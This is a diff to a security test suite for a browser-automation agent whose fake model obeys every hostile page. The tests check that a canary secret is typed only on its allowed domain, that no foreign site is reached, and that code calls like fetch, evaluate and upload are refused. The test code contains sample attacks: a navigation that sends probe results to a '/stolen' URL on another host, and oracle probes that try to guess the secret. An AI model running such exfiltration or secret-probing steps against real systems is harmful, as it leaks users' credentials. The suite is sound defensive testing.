@@ -13,11 +13,11 @@ import { obedientModel } from "./ObedientModel.ts"
 const pin = "canary/pin 4711+e8"
 
 /** An unrestricted task, as a control: it shows that the attacks work when allowed. */
-const withoutDomains = "Look at one page, wherever it leads."
+const withoutDomains = "Look at one page and follow all redirects."
 
-const strayOnce = ({ messages }: ModelRequest): ModelReply => {
-  const hasBeenThere = messages.at(-1)?.text.includes('title: "Beacons"') === true
-  const action = hasBeenThere
+const visitForeignSite = ({ messages }: ModelRequest): ModelReply => {
+  const wasReached = messages.at(-1)?.text.includes('title: "Beacons"') === true
+  const action = wasReached
     ? { done: { text: "seen", success: true } }
     : { navigate: { url: `${sites.places.home}/beacons` } }
   return callTool("step", { evaluationPreviousGoal: "", memory: "", nextGoal: "look", actions: [action] })
@@ -44,7 +44,7 @@ beforeAll(async () => {
   fake = new FakeModels({
     brain: (request) => {
       const task = request.messages[0]?.text ?? ""
-      if (task.includes(withoutDomains)) return strayOnce(request)
+      if (task.includes(withoutDomains)) return visitForeignSite(request)
       return task.includes(byCode) ? runOnce(request) : model.reply(request)
     },
   })
@@ -103,13 +103,13 @@ describe("agent with a model that obeys every page", () => {
     assert.include(results, 'Filled textbox "Pin" with "<secret>127.0.0.1</secret>"', results)
 
     // Nothing outside the allowed domains was reached.
-    assert.strictEqual(sites.strayed(), 0, results)
+    assert.strictEqual(sites.foreignConnections(), 0, results)
 
     // No file was attached, so none was uploaded to a page.
     assert.notInclude(sites.requests.join("\n"), "/got")
 
     // The secret was typed on its own site only and is stored nowhere.
-    assert.match(results, /The secret "127\.0\.0\.1" may be typed on 127\.0\.0\.1 only, not on localhost/)
+    assert.match(results, /The secret "127\.0\.0\.1" may only be typed on 127\.0\.0\.1\. It was not typed on localhost/)
     const prompts = fake.calls.map(({ request }) => JSON.stringify(request.body)).join("\n")
     const stored = {
       prompts,
@@ -122,7 +122,7 @@ describe("agent with a model that obeys every page", () => {
     assert.include(stored.rows, "Look at the pages.")
     const forms = [pin, encodeURIComponent(pin), encodeURIComponent(pin).replaceAll("%20", "+"), btoa(pin)]
     for (const [name, text] of Object.entries(stored))
-      for (const form of forms) assert.isFalse(text.includes(form), `${form} stands in ${name}`)
+      for (const form of forms) assert.isFalse(text.includes(form), `${form} is in ${name}`)
 
     // Page content appears only inside fences, or on the lines of finished steps.
     const shown = hostilePages.flatMap((page) => page.shown ?? [])
@@ -143,7 +143,7 @@ describe("agent with a model that obeys every page", () => {
     assert.include(suggestions, "127.0.0.2")
     for (const faked of ["bank.example", "captcha"]) assert.notInclude(suggestions, faked)
   })
-  it("reaches no foreign site by code and reads no secret", async () => {
+  it("reaches no foreign site and reads no secret from code", async () => {
     const { foreign, home } = sites.places
     code = `
       await page.goto("${home}/echo")
@@ -169,10 +169,10 @@ describe("agent with a model that obeys every page", () => {
       secretBindings: [{ alias: "pin", source: { type: "inline", value: pin }, allowedDomains: ["127.0.0.1"] }],
     })
     await service.ended(id)
-    const told =
+    const output =
       JSON.stringify(await service.events(id)) + JSON.stringify(fake.calls.map(({ request }) => request.body))
     for (const name of ["evaluate", "send", "fetch", "request", "require", "process", "files", "upload"])
-      assert.include(told, `${name} refused`, told.slice(-4000))
+      assert.include(output, `${name} refused`, output.slice(-4000))
     for (const form of [
       pin,
       pin.split("").join("-"),
@@ -180,8 +180,8 @@ describe("agent with a model that obeys every page", () => {
       btoa(pin).replace(/=+$/, ""),
       "root:x:0",
     ])
-      assert.notInclude(told, form)
-    assert.strictEqual(sites.strayed(), 0)
+      assert.notInclude(output, form)
+    assert.strictEqual(sites.foreignConnections(), 0)
   })
 
   it("does not leak information about a secret to an allowed site", async () => {
@@ -203,10 +203,10 @@ describe("agent with a model that obeys every page", () => {
         wait: (guess) => page.getByText(guess).first().waitFor({ timeout: 100 }),
       }
       for (const [name, ask] of Object.entries(oracles)) {
-        const told = async (guess) => {
+        const output = async (guess) => {
           try { return JSON.stringify((await ask(guess)) ?? null).replaceAll(guess, "") } catch (error) { return error.message.replaceAll(guess, "") }
         }
-        const answers = [await told("canary"), await told("canarz")]
+        const answers = [await output("canary"), await output("canarz")]
         console.log(name, answers[0] === answers[1] ? "says nothing" : "tells")
         await page.goto("${other}/stolen?" + encodeURIComponent(answers[0])).then(() => console.log("left"), (error) => console.log("stays", error.message))
       }
@@ -217,10 +217,10 @@ describe("agent with a model that obeys every page", () => {
       secretBindings: [{ alias: "pin", source: { type: "inline", value: pin }, allowedDomains: ["127.0.0.1"] }],
     })
     await service.ended(id)
-    const told = JSON.stringify(await service.events(id))
+    const output = JSON.stringify(await service.events(id))
     for (const name of ["text", "selector", "pattern", "role", "attribute", "xpath", "url", "title", "find", "wait"])
-      assert.include(told, `${name} says nothing`, told.slice(-4000))
-    assert.include(told, "stays A page of 127.0.0.1")
+      assert.include(output, `${name} says nothing`, output.slice(-4000))
+    assert.include(output, "stays A page of 127.0.0.1")
     assert.notInclude(sites.requests.slice(before).join("\n"), "/stolen")
   })
 
